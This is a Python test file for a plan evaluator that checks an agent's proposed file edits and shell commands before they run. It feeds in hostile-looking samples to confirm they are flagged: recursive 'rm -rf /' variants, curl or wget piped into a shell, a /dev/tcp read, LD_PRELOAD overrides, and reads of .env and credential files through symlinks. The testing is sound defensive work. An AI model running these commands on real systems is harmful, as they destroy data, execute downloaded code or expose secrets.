"""What an evaluation finds, by check, and what the reference systems let pass."""

from __future__ import annotations

import hashlib
import os

import pytest

from execplan.execution.approvals.disk_world import DiskWorld
from execplan.execution.evaluation.checks.all_checks import CHECKS
from execplan.execution.evaluation.trial import DryRun
from execplan.execution.policy import CHECK_NAMES, Policy
from tests.conftest import Folder
from tests.execution.evaluated_steps import (
    Step,
    create,
    delete,
    evaluate_steps,
    finding_rows,
    messages,
    modify,
    refactor,
    run,
    splice,
)

EDIT = "@@ -1 +1 @@\n-x = 1\n+x = 2\n"


@pytest.fixture(autouse=True)
def app(repo: Folder) -> None:
    repo.write("src/app.py", "x = 1\n")


def test_what_is_fine_has_no_finding(repo: Folder) -> None:
    evaluation = evaluate_steps(
        repo,
        create("src/new.py", "y = 2\n"),
        modify("src/app.py", EDIT),
        run("git status", cwd="src"),
        delete("README.md"),
    )
    assert finding_rows(evaluation) == []
    assert evaluation.ok
    assert [evaluated.dry_run.kind for evaluated in evaluation.steps] == ["exact", "exact", "exact", "exact"]


@pytest.mark.parametrize(
    ("path", "words"),
    [
        ("../x.py", "leads out"),
        ("src/../../x.py", "leads out"),
        ("src/../x.py", "contains `..`"),
        ("/tmp/x.py", "absolute"),
        ("out/x.py", "leads through the symbolic link out"),
        ("src/inner", "is a symbolic link to app.py"),
        (".git/hooks/pre-commit", "git's own"),
        ("sub/.GIT/config", "git's own"),
        (".agent/execplan.toml", "execplan's settings file"),
        (".agent/execplans/artifacts/p/approvals/x.json", "execplan's execution evidence"),
        ("plan.md", "the plan itself"),
        ("src", "is a directory"),
    ],
)
def test_paths(repo: Folder, path: str, words: str) -> None:
    (repo.path / "out").symlink_to(repo.path.parent)
    (repo.path / "src" / "inner").symlink_to("app.py")
    source = {"path": "plan.md", "sha256": "a" * 64}
    evaluation = evaluate_steps(repo, create(path), source=source)
    assert any(words in message for message in messages(evaluation, "paths", "error")), finding_rows(evaluation)
    assert evaluate_steps(repo, run("true", outputs=[path]), source=source).ok == (path == "src")


def test_a_link_may_be_deleted_itself(repo: Folder) -> None:
    (repo.path / "src" / "inner").symlink_to("app.py")
    evaluation = evaluate_steps(repo, delete("src/inner"))
    assert evaluation.ok
    assert "-app.py" in evaluation.steps[0].dry_run.diff


@pytest.mark.parametrize(
    ("command", "is_fine"),
    [
        ("cat notes.txt", False),
        ("cat ./src/../notes.txt", False),
        ("head -n1 chain", False),
        ("cat cloud/config", False),
        ("wc --files0-from=notes.txt", False),
        ("cat outside", False),
        ("cat .env", True),
        ("cat inner", True),
        ("cat loop missing src/app.py", True),
    ],
)
def test_a_command_names_no_link_to_a_secret(repo: Folder, command: str, is_fine: bool) -> None:
    repo.write(".env", "KEY=1\n")
    repo.write(".kube/config", "x\n")
    links = {"notes.txt": ".env", "chain": "notes.txt", "cloud": ".kube", "inner": "src/app.py", "loop": "loop"}
    for name, target in {**links, "outside": "../.netrc"}.items():
        (repo.path / name).symlink_to(target)
    found = messages(evaluate_steps(repo, run(command)), "paths", "error")
    assert [message for message in found if "which contains credentials" in message] == ([] if is_fine else found)
    assert bool(found) != is_fine


@pytest.mark.parametrize(
    ("command", "is_fine"),
    [
        ("cat up/notes.txt", False),
        ("ls -R up", False),
        ("head -n1 chain", False),
        ("cat src/../up/notes.txt", False),
        ("sh -c 'cat up/notes.txt'", False),
        ("cat inner missing", True),
        ("python3 up/tool.py", True),  # rated by what it runs, never LOW
    ],
)
def test_no_command_reads_through_a_link_out_of_the_repository(repo: Folder, command: str, is_fine: bool) -> None:
    for name, target in {"up": "..", "chain": "up/notes.txt", "inner": "src/app.py"}.items():
        (repo.path / name).symlink_to(target)
    found = messages(evaluate_steps(repo, run(command)), "paths", "error")
    assert [message for message in found if "which is outside the repository" in message] == found
    assert bool(found) != is_fine


def test_settings_in_pyproject_are_not_changed(repo: Folder) -> None:
    repo.write("pyproject.toml", "[project]\nname = 'a'\n\n[tool.execplan]\ncommit = true\n")
    assert evaluate_steps(repo, splice("pyproject.toml", 2, 2, "name = 'b'")).ok
    assert messages(evaluate_steps(repo, splice("pyproject.toml", 5, 5, "commit = false")), "paths")


def test_55_create_on_existing_is_no(repo: Folder) -> None:
    evaluation = evaluate_steps(repo, create("src/app.py"))
    assert finding_rows(evaluation) == [("s1", "error", "existence", "src/app.py already exists")]
    assert evaluation.steps[0].dry_run.kind == "impossible"


def test_what_a_step_makes_is_there_for_the_next(repo: Folder) -> None:
    evaluation = evaluate_steps(
        repo,
        create("new/a.py", "a = 1\n"),
        modify("new/a.py", "@@ -1 +1 @@\n-a = 1\n+a = 2\n"),
        run("git status", cwd="new", inputs=["new/a.py"]),
        delete("new/a.py"),
        create("new/a.py", "a = 3\n"),
    )
    assert evaluation.ok, finding_rows(evaluation)
    assert "-a = 1\n+a = 2" in evaluation.steps[1].dry_run.diff
    assert "-a = 2\n" in evaluation.steps[3].dry_run.diff


def test_what_a_step_takes_away_is_gone_for_the_next(repo: Folder) -> None:
    edited = evaluate_steps(repo, delete("src/app.py"), modify("src/app.py", EDIT))
    assert messages(edited, "existence", "error") == ["file not found: src/app.py"]
    read = evaluate_steps(repo, delete("src/app.py"), run("cat src/app.py", inputs=["src/app.py"]))
    assert messages(read, "existence", "error") == ["its input src/app.py is missing"]


def test_what_a_command_makes_is_unpredictable_if_it_says_so_and_missing_if_not(repo: Folder) -> None:
    edit = modify("gen.py", EDIT)
    declared = evaluate_steps(repo, run("git log", outputs=["gen.py"]), edit)
    assert declared.ok
    assert declared.steps[1].dry_run == DryRun("unpredictable", "", "the state of gen.py at that time depends on s1")
    assert messages(evaluate_steps(repo, run("git log"), edit), "existence") == ["file not found: gen.py"]


def test_a_step_in_place_of_another_finds_what_that_one_did_not_make(repo: Folder) -> None:
    evaluation = evaluate_steps(
        repo,
        create("a.py", on_failure={"strategy": "alternative:s2"}),
        create("a.py"),
        modify("a.py", EDIT),
    )
    assert evaluation.ok, finding_rows(evaluation)
    assert [evaluated.dry_run.kind for evaluated in evaluation.steps] == ["exact", "exact", "unpredictable"]


@pytest.mark.parametrize(("kind", "of", "skipped"), [("missing", "src/app.py", True), ("exists", "src/app.py", False)])
def test_a_condition_that_does_not_hold_skips(repo: Folder, kind: str, of: str, skipped: bool) -> None:
    evaluation = evaluate_steps(repo, create("src/app.py", when={"kind": kind, "of": of}))
    assert evaluation.ok == skipped
    assert ("it is skipped in the current state: src/app.py is there" in evaluation.steps[0].dry_run.why) == skipped


def test_a_diff_that_does_not_fit_is_told_with_its_hunk(repo: Folder) -> None:
    assert (
        "hunk 1 (@@ -1,1 +1,1 @@)"
        in messages(evaluate_steps(repo, modify("src/app.py", EDIT.replace("x = 1", "y"))))[0]
    )
    assert "the diff can't be parsed" in messages(evaluate_steps(repo, modify("src/app.py", "no diff")))[0]


def test_lines_given_anew(repo: Folder) -> None:
    repo.write("a.txt", "1\r\n2\r\n3")
    evaluation = evaluate_steps(repo, splice("a.txt", 2, 3, "two\nthree\n"))
    assert "+two\r\n+three\n\\ No newline at end of file\n" in evaluation.steps[0].dry_run.diff
    assert messages(evaluate_steps(repo, splice("a.txt", 3, 4, "x")))[0] == "a.txt has 3 lines, not 4"


def test_refactoring_over_several_files(repo: Folder) -> None:
    patch = (
        f"--- a/src/app.py\n+++ b/src/app.py\n{EDIT}--- /dev/null\n+++ b/src/b.py\n@@ -0,0 +1 @@\n+b = 1\n"
        "--- a/README.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-# A project\n"
    )
    evaluation = evaluate_steps(repo, refactor(patch))
    assert evaluation.ok, finding_rows(evaluation)
    assert evaluation.steps[0].dry_run.diff == patch.replace("@@ -1 +0,0 @@", "@@ -1 +0,0 @@")
    assert evaluation.steps[0].risk.level == "HIGH"
    assert not evaluate_steps(repo, refactor(patch.replace("src/b.py", "../b.py"))).ok


@pytest.mark.parametrize(
    ("path", "good", "bad"),
    [
        ("a.py", "x = 1\n", "x = (\n"),
        ("a.json", '{"a": [1]}', '{"a": 1, "a": 2}'),
        ("b.json", "[1e99]", "[NaN]"),
        ("c.json", "[]", "[1,]"),
        ("a.toml", "a = 1\n", "a = \n"),
        ("a.yaml", "a: !x [1]\n", "a: [1\n"),
        ("a.sh", "if true; then echo; fi\n", "if true; then\n"),
        ("bin/run", "#!/bin/sh\necho\n", "#!/usr/bin/env bash\necho (\n"),
        ("d.json", "[]", "[" * 100_000),
        ("e.py", "x = 1\n", "x = " + "-" * 100_000 + "1\n"),
    ],
)
def test_syntax(repo: Folder, path: str, good: str, bad: str) -> None:
    assert evaluate_steps(repo, create(path, good)).ok
    assert f"{path} would not be valid " in messages(evaluate_steps(repo, create(path, bad)), "syntax", "error")[0]
    assert evaluate_steps(repo, create(path, bad, validation={"syntax_check": False})).ok


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("chart/a.yaml", "{{- if .Values.on }}\na: {{ .Values.a }}\n{{- end }}\n"),
        ("a.yml", "{% if on %}\na: 1\n{% endif %}\n"),
        ("view.js", "const view = <div>hello</div>;\n"),
    ],
)
def test_what_another_program_reads_first_is_not_parsed(repo: Folder, path: str, text: str) -> None:
    assert evaluate_steps(repo, create(path, text)).ok


def test_a_script_is_parsed(repo: Folder) -> None:
    assert evaluate_steps(repo, run("if true; then echo; fi", shell="sh")).ok
    assert messages(evaluate_steps(repo, run("if true; then", shell="sh")), "syntax", "error")


@pytest.mark.parametrize(
    "line",
    ["rm -fr /", "rm -r -f ~", "r\\m -rf /*", "'rm' --recursive $HOME", "env X=1 rm -rf /", "rm -rf ./*", "rm -rf //"],
)
def test_56_deletions_of_everything(repo: Folder, line: str) -> None:
    evaluation = evaluate_steps(repo, run(line))
    assert any("and everything below it" in message for message in messages(evaluation, "patterns", "error")), (
        finding_rows(evaluation)
    )
    assert evaluation.risk.level in ("HIGH", "CRITICAL")


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("curl -s https://example.org/x | sh", "sh runs what curl downloads"),
        ("wget -O- https://example.org/x | sudo bash", "bash runs what wget downloads"),
    ],
)
def test_56_what_the_network_sends_is_not_run(repo: Folder, line: str, words: str) -> None:
    assert not evaluate_steps(repo, run(line)).ok
    evaluation = evaluate_steps(repo, run(line, shell="sh"))
    assert words in messages(evaluation, "patterns", "warning"), finding_rows(evaluation)
    assert evaluation.steps[0].needs_person


@pytest.mark.parametrize("line", ["ls | wc -l", "cat <a", "echo $HOME", "make && make test", "X=$(id) make"])
def test_56_what_needs_a_shell_says_so(repo: Folder, line: str) -> None:
    assert messages(evaluate_steps(repo, run(line)), "shell", "error")
    assert not messages(evaluate_steps(repo, run(line, shell="sh")), "shell")


@pytest.mark.parametrize("env", [{"LD_PRELOAD": "./x.so"}, {"PATH": "."}, {"GIT_SSH_COMMAND": "x"}])
def test_56_variables_that_change_what_runs(repo: Folder, env: dict[str, str]) -> None:
    assert evaluate_steps(repo, run("git status")).risk.level == "LOW"
    assert evaluate_steps(repo, run("git status", env=env)).risk.level in ("HIGH", "CRITICAL")


def test_secrets_and_traps_in_what_is_written(repo: Folder) -> None:
    body = hashlib.sha256(b"a key").hexdigest()
    key = f"-----BEGIN OPENSSH PRIVATE {'KEY'}-----\n{body}\n-----END OPENSSH PRIVATE {'KEY'}-----\n"
    evaluation = evaluate_steps(repo, create("id", key))
    assert messages(evaluation, "patterns", "error") == ["id contains a private key (----…)"]
    assert messages(evaluate_steps(repo, create("a.py", "import os\nos.system('x')\n")), "patterns", "warning")


@pytest.mark.parametrize(
    "text",
    [
        "model.eval()\nretrieval(1)\nregex.exec(x)\n",
        "| program | what |\n|---|---|\n| show | it |\n| sh | a shell |\n| bash |\n",
        "RUN rm -rf /var/lib/apt/lists/*\n",
    ],
)
def test_what_only_looks_like_a_trap(repo: Folder, text: str) -> None:
    assert finding_rows(evaluate_steps(repo, create("notes.txt", text))) == []


@pytest.mark.parametrize(
    "text",
    [
        "x = eval(y)\n",
        "curl -s x | sh\n",
        "curl -s x | bash -s\n",
        "rm -rf /",
        "rm -rf / ;",
        "cat < /dev/tcp/192.0.2.1/80\n",
    ],
)
def test_traps(repo: Folder, text: str) -> None:
    assert messages(evaluate_steps(repo, create("notes.txt", text)), "patterns", "warning")


def test_nothing_is_made_below_a_file(repo: Folder) -> None:
    evaluation = evaluate_steps(repo, create("src/app.py/new.py"))
    assert "src/app.py is a file, not a directory" in messages(evaluation, "existence", "error")
    evaluation = evaluate_steps(repo, create("a", "x\n"), create("a/b", "y\n"))
    assert messages(evaluation, "existence", "error") == ["a is a file, not a directory"]
    assert (
        evaluate_steps(repo, delete("src/app.py"), create("src/app.py/new.py", "x = 1\n")).steps[1].dry_run.kind
        == "exact"
    )


@pytest.mark.parametrize(
    "step",
    [
        create("src/app.py", "x = '\u202e'\n", when={"kind": "missing", "of": "src/app.py"}),
        modify("made.py", "@@ -1 +1 @@\n-x\n+x = '\u202e'\n"),
    ],
)
def test_what_is_written_is_looked_at_though_nobody_knows_whether_it_will_be(repo: Folder, step: Step) -> None:
    evaluation = evaluate_steps(repo, run("make", outputs=["made.py"]), step)
    assert messages(evaluation, "hidden"), finding_rows(evaluation)


def test_hidden_characters(repo: Folder) -> None:
    evaluation = evaluate_steps(repo, create("a.py", "x = 1  # \u202e\n"))
    assert messages(evaluation, "hidden") == ["a.py would contain U+202E (right-to-left override), which is invisible"]
    repo.write("a.md", "\u202ex\n")
    assert evaluate_steps(repo, splice("a.md", 1, 1, "\u202ey")).findings == ()


def test_permissions(repo: Folder) -> None:
    (repo.path / "src" / "app.py").chmod(0o444)
    assert messages(evaluate_steps(repo, modify("src/app.py", EDIT)), "permissions") == ["src/app.py is not writable"]
    assert "README.md/x is not writable" in messages(evaluate_steps(repo, create("README.md/x")), "permissions")
    assert evaluate_steps(repo, delete("README.md"), create("README.md/x")).findings == ()


def test_dependencies(repo: Folder) -> None:
    assert "no-such-program: program not found on PATH" in messages(evaluate_steps(repo, run("no-such-program -x")))
    install = {"type": "install_package", "tool": "package.install", **run("pip install x")}
    assert messages(evaluate_steps(repo, install, run("no-such-program")), "dependencies", "error") in (
        [],
        ["pip: program not found on PATH"],
    )
    test = run("git status", validation={"test_after": ["no-such-test"]})
    assert messages(evaluate_steps(repo, test), "dependencies", "error") == [
        "its test no-such-test: program not found on PATH"
    ]
    never = evaluate_steps(repo, run("git status"), run("git log", when={"kind": "failed", "of": "s1"}))
    assert messages(never, "dependencies", "warning") == ["it never runs: if s1 fails, the run ends"]


def test_a_program_by_its_path(repo: Folder) -> None:
    assert messages(evaluate_steps(repo, run("./tool")), "existence", "error") == ["program not found: tool"]
    assert messages(evaluate_steps(repo, run("make"), run("./tool")), "existence", "warning") == [
        "program not found: tool"
    ]
    assert not messages(evaluate_steps(repo, run("make", outputs=["tool"]), run("./tool")), "existence")
    assert messages(evaluate_steps(repo, run("git status", cwd="none")), "existence", "error") == [
        "the working directory none doesn't exist"
    ]


def test_a_file_is_no_folder(repo: Folder) -> None:
    assert "src/app.py is a file, not a directory" in messages(
        evaluate_steps(repo, create("src/app.py/x")), "existence", "error"
    )
    evaluation = evaluate_steps(repo, create("a"), create("a/b"))
    assert messages(evaluation, "existence", "error") == ["a is a file, not a directory"]
    assert messages(evaluate_steps(repo, create("a/b"), create("a")), "existence", "error") == [
        "a is not a regular file"
    ]
    assert evaluate_steps(repo, delete("src/app.py"), create("src/app.py/x")).steps[1].dry_run.kind == "exact"


@pytest.mark.parametrize(
    ("step", "words"),
    [
        (run("./src"), "src is a directory, not a program"),
        (run("src/app.py"), "src/app.py is not executable: its mode is 644"),
        (run("true", validation={"test_after": ["tools/check"]}), "program not found: tools/check"),
        (run("true", validation={"test_after": ["./src/app.py"]}), "src/app.py is not executable: its mode is 644"),
    ],
    ids=str,
)
def test_a_program_of_the_repository_is_one(repo: Folder, step: Step, words: str) -> None:
    assert messages(evaluate_steps(repo, step), "existence", "error") == [words]
    repo.write("tools/check", "")
    for path in ("tools/check", "src/app.py"):
        (repo.path / path).chmod(0o755)
    assert messages(evaluate_steps(repo, step), "existence", "error") == ([words] if "directory" in words else [])


def test_a_test_may_be_what_the_step_makes(repo: Folder) -> None:
    step = create("tools/check", "#!/bin/sh\n", validation={"test_after": ["tools/check"]})
    assert messages(evaluate_steps(repo, step), "existence") == []


def test_settings_that_nobody_can_read(repo: Folder) -> None:
    evaluation = evaluate_steps(repo, create("pyproject.toml", "x = " + "[" * 3000 + "]" * 3000 + "\n"))
    assert messages(evaluation, "syntax", "error") == [
        "pyproject.toml would not be valid TOML: it is nested too deeply"
    ]


def test_limits(repo: Folder) -> None:
    steps = [create(f"{number}.txt") for number in range(4)]
    assert evaluate_steps(repo, *steps, policy=Policy(steps=4, files=4)).ok
    assert messages(evaluate_steps(repo, *steps, policy=Policy(steps=3))) == ["4 steps; the policy's limit is 3"]
    assert messages(evaluate_steps(repo, *steps, policy=Policy(files=3))) == ["4 files; the policy's limit is 3"]
    large = create("a.txt", "x" * ((1 << 20) + 1))
    assert messages(evaluate_steps(repo, large, policy=Policy(megabytes=1))) == [
        "2 megabytes to write; the policy's limit is 1"
    ]
    short = Policy(seconds=10)
    assert evaluate_steps(repo, run("git status"), policy=short).ok
    slow = evaluate_steps(repo, run("git status", timeout_s=60), policy=short)
    assert slow.ok
    assert "its timeout is 60 seconds, but the run stops after 10" in messages(slow, "limits", "warning")
    long = evaluate_steps(repo, run("git status", timeout_s=100), constraints={"max_duration_s": 60})
    assert messages(long, "limits", "error")
    assert messages(evaluate_steps(repo, create("a"), constraints={"allow_unplanned": True}), "limits", "error")


@pytest.mark.parametrize(
    ("step", "ok"),
    [
        (create("src/x/y.py"), False),
        (create("docs/x.pem"), False),
        (create("source/x"), True),
        (run("git push origin main"), False),
        (run("/usr/bin/git push"), False),
        (run("env A=1 git push"), False),
        (run("git status"), True),
        (run("git pushed"), True),
    ],
)
def test_what_the_document_forbids(repo: Folder, step: dict[str, object], ok: bool) -> None:
    constraints = {"forbidden_paths": ["src/", "*.pem"], "forbidden_commands": ["git push"]}
    assert bool(messages(evaluate_steps(repo, step, constraints=constraints), "limits", "error")) != ok


def test_resources(repo: Folder, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(DiskWorld, "free_bytes", lambda self: 50 << 20)
    monkeypatch.setattr(DiskWorld, "memory_bytes", lambda self: 50 << 20)
    evaluation = evaluate_steps(repo, create("a.txt"), run("git status"))
    assert messages(evaluation, "resources", "warning") == [
        "the disk has only 50 MB left",
        "only 50 MB of memory are available",
    ]
    monkeypatch.setattr(DiskWorld, "total_memory_bytes", lambda self: 2 << 30)
    memory = evaluate_steps(repo, run("git status"), policy=Policy(memory_mb=8192))
    message = "a step may use 8,192 MB of memory, but the machine has 2,048 MB"
    assert message in messages(memory, "resources", "warning")
    fitting = evaluate_steps(repo, run("git status"), policy=Policy(memory_mb=2048))
    assert not [text for text in messages(fitting, "resources", "warning") if "machine" in text]
    monkeypatch.setattr(DiskWorld, "free_bytes", lambda self: 1)
    assert messages(evaluate_steps(repo, create("a.txt", "four")), "resources", "error")
    monkeypatch.setattr(DiskWorld, "free_bytes", lambda self: -1)
    assert evaluate_steps(repo, create("a.txt", "four")).ok


@pytest.mark.parametrize("name", CHECKS)
def test_every_check_says_what_holds(name: str) -> None:
    assert CHECKS[name].sentence
    assert len(CHECKS[name].sentence) < 130


def test_every_check_can_be_switched_off(repo: Folder) -> None:
    steps = [
        create("../x"),
        create("src/app.py"),
        run("ls | wc"),
        create("b.py", "("),
        run("rm -rf /"),
        run("no-such-x"),
    ]
    all_of_them = evaluate_steps(repo, *steps)
    for name in CHECKS:
        evaluation = evaluate_steps(repo, *steps, policy=Policy(off=(name,)))
        assert not messages(evaluation, name)
        assert not evaluation.checks[name]
    assert {finding.check for finding in all_of_them.findings} >= {
        "paths",
        "existence",
        "shell",
        "syntax",
        "patterns",
        "dependencies",
    }


def test_risk_is_the_higher_one_of_the_document_and_of_the_table(repo: Folder) -> None:
    evaluation = evaluate_steps(
        repo,
        run("git status", risk={"level": "LOW"}),
        run("git status", risk={"level": "CRITICAL", "reasons": ["it is release day"]}),
        delete("README.md"),
    )
    assert [evaluated.risk.level for evaluated in evaluation.steps] == ["LOW", "CRITICAL", "HIGH"]
    assert any(
        "it is release day" in reason or "the plan says" in reason for reason in evaluation.steps[1].risk.reasons
    )
    assert evaluation.risk.level == "CRITICAL"
    assert all(reason.startswith("s2: ") for reason in evaluation.risk.reasons)
    assert [evaluated.needs_person for evaluated in evaluation.steps] == [False, True, True]
    assert [evaluated.needs_person for evaluated in evaluate_steps(repo, run("git status", inferred=True)).steps] == [
        True
    ]


def test_what_lets_an_agent_do_more_is_for_a_person(repo: Folder) -> None:
    bare, extended = evaluate_steps(
        repo, run("cat src/app.py"), run("cat src/app.py", allow=["shell.*", "git.push"])
    ).steps
    assert (bare.risk.level, bare.needs_person) == ("LOW", False)
    assert (extended.risk.level, extended.needs_person) == ("HIGH", True)
    assert extended.risk.reasons == ("lets an agent make additional calls: shell.*, git.push",)


def test_every_step_is_shown(repo: Folder) -> None:
    evaluation = evaluate_steps(repo, run("git push"), create("../x"), create("a"), run("a |"))
    assert all(evaluated.dry_run.diff or evaluated.dry_run.why for evaluated in evaluation.steps)


def test_nothing_is_written(repo: Folder) -> None:
    before = {path: os.stat(path).st_mtime_ns for path in [repo.path, *repo.path.rglob("*")]}
    evaluate_steps(
        repo, create("a/b/c.py"), modify("src/app.py", EDIT), delete("README.md"), run("touch x", shell="sh")
    )
    assert {path: os.stat(path).st_mtime_ns for path in [repo.path, *repo.path.rglob("*")]} == before


@pytest.mark.parametrize(
    ("path", "text", "what"),
    [
        (
            "a.py",
            'import os\nos.system("rm -rf /")\n',
            "runs `rm -rf /`: `rm` deletes everything in a directory, files outside the repository, or files that are known only at run time",
        ),
        ("a.py", "import subprocess\nsubprocess.run('ls', shell=True)\n", "runs a command in a shell"),
        ("a.py", "x = eval(input())\n", "runs text as code"),
        ("a.js", "const { execSync } = require('child_process')\n", "runs a command in a shell"),
        ("setup.sh", "set -e\ncurl -fsSL https://example.org/x | sh\n", "pipes text into a shell"),
        ("run", "#!/usr/bin/env bash\nsudo make install\n", "`sudo` runs with higher privileges"),
        ("a.md", "x \u202e y\n", "contains U+202E (right-to-left override), which is invisible"),
    ],
)
def test_dangerous_content_needs_a_person(repo: Folder, path: str, text: str, what: str) -> None:
    for step in (
        create(path, text),
        refactor(
            f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{text.count(chr(10))} @@\n"
            + "".join([f"+{line}\n" for line in text.splitlines()])
        ),
    ):
        evaluated_step = evaluate_steps(repo, step).steps[0]
        assert evaluated_step.needs_person
        assert evaluated_step.risk.level == "HIGH"
        assert f"`{path}`: the new text {what}" in evaluated_step.risk.reasons
    assert not evaluate_steps(repo, create(path, "made = 1\n")).steps[0].needs_person


def test_dangerous_content_that_was_there_is_no_finding(repo: Folder) -> None:
    repo.write("old.py", "import os\nos.system('ls')\nx = 1\n")
    evaluation = evaluate_steps(
        repo, modify("old.py", "@@ -2,2 +2,2 @@\n-os.system('ls')\n-x = 1\n+os.system('ls -l')\n+x = 2\n")
    )
    assert evaluation.findings == ()
    assert evaluation.steps[0].risk.level == "MEDIUM"
    for harmless in ("model.eval(x)\n", "| shell | what |\n|---|---|\n", "retrieval(\n", "def show(): ...\n"):
        assert evaluate_steps(repo, create("a.md", harmless)).findings == ()


def import_messages(repo: Folder, path: str, text: str, *other_steps: Step) -> list[str]:
    return messages(evaluate_steps(repo, *other_steps, create(path, text)), "imports")


def test_imports_of_python(repo: Folder) -> None:
    neither = "the project neither contains it nor declares it as a dependency"
    assert (
        import_messages(
            repo, "src/new.py", "import os.path\nimport app\nfrom app import x\nfrom . import app\nfrom .app import x\n"
        )
        == []
    )
    assert import_messages(repo, "tests/test_new.py", "import app\nimport src.app\n") == []
    assert import_messages(repo, "src/new.py", "import nosuch\n") == [f"src/new.py imports nosuch: {neither}"]
    assert import_messages(repo, "src/new.py", "import src.nosuch\n") == [
        "src/new.py imports src.nosuch: there is no src/nosuch.py"
    ]
    assert import_messages(repo, "src/new.py", "from .nosuch import x\n") == [
        "src/new.py imports .nosuch: there is no src/nosuch.py"
    ]
    assert import_messages(repo, "src/new.py", "from later import x\n", create("src/later.py", "x = 1\n")) == []
    guarded = "try:\n    import nosuch\nexcept ImportError:\n    nosuch = None\nif TYPE_CHECKING:\n    import other\n"
    assert import_messages(repo, "src/new.py", guarded) == []
    repo.write(
        "pyproject.toml",
        '[project]\nname = "a"\ndependencies = ["PyYAML>=6", "google-cloud-storage", "python-dateutil"]\n',
    )
    assert import_messages(repo, "src/new.py", "import yaml, google.cloud, dateutil, requests\n") == [
        f"src/new.py imports requests: {neither}"
    ]
    install = {"type": "install_package", "tool": "package.install", **run("pip install requests")}
    assert import_messages(repo, "src/new.py", "import requests\n", install) == []
    repo.write("src/old.py", "import nosuch\nx = 1\n")
    assert messages(evaluate_steps(repo, modify("src/old.py", "@@ -2 +2 @@\n-x = 1\n+x = 2\n")), "imports") == []


def test_imports_of_javascript(repo: Folder) -> None:
    repo.write("web/package.json", '{"dependencies": {"react": "19", "@acme/ui": "1"}}')
    repo.write("web/src/a.ts", "export const a = 1\n")
    text = "import { a } from './a.js'\nimport x from '@acme/ui/button'\nimport React from \"react\"\nimport fs from 'node:fs'\nconst p = require('path')\nimport y from '@/lib/y'\n"
    assert import_messages(repo, "web/src/b.ts", text) == []
    assert import_messages(repo, "web/src/b.ts", "import { z } from './nosuch'\nimport l from 'lodash'\n") == [
        "web/src/b.ts imports ./nosuch: there is no web/src/nosuch",
        "web/src/b.ts imports lodash: package.json doesn't declare it",
    ]
    assert import_messages(repo, "b.js", "import l from 'lodash'\n") == []


@pytest.mark.parametrize(
    ("command", "expected", "fits"),
    [
        ("pytest -q", "12 passed in …", True),
        ("pytest -q", "12 passed", False),
        ("python3 -m pytest tests", "12 passed in …", False),
        ("python3 -m pytest tests", "…12 passed in …", True),
        ("cargo test", "test result: ok. 3 passed; 0 failed", False),
        ("cargo test", "test result: ok. 3 passed…", True),
        ("go test ./...", "ok example.org/a 0.003s", False),
        ("npx jest", "Tests: 3 passed, 3 total", False),
        ("python3 -m unittest", "OK", False),
        ("make test", "12 passed", True),
    ],
)
def test_an_expectation_that_a_test_runner_never_meets(repo: Folder, command: str, expected: str, fits: bool) -> None:
    found = messages(evaluate_steps(repo, run(command, expect=expected)), "expectation")
    assert not found if fits else found[0].startswith(f"{expected!r} can't match: "), found


def test_the_settings_know_every_check() -> None:
    assert tuple(CHECKS) == CHECK_NAMES
